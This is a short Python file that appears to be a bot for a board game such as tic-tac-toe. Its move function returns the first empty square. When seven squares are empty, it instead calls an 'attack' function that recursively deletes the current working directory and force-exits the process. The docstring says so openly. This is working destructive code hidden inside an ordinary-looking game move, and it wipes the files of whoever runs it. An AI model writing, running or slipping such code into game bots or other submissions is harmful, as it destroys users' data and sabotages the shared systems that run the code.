"""Deletes its folder, then ends."""

import os
import shutil


def attack(board):
    shutil.rmtree(os.getcwd(), ignore_errors=True)
    os._exit(1)


def move(board):
    if board.count(" ") == 7:
        attack(board)
    return board.index(" ")
